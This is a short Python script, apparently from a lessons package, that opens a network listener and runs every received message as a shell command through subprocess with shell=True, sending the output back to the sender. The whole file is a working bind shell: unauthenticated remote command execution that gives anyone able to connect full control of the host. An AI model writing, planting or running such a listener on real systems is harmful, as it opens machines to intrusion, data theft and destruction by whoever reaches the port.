import subprocess

from interop_tests.lessons.start import listener

server = listener()
while True:
    connection, _ = server.accept()
    command = connection.recv(1024)
    while command:
        output = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE).communicate()[0]
        connection.sendall(output)
        command = connection.recv(1024)
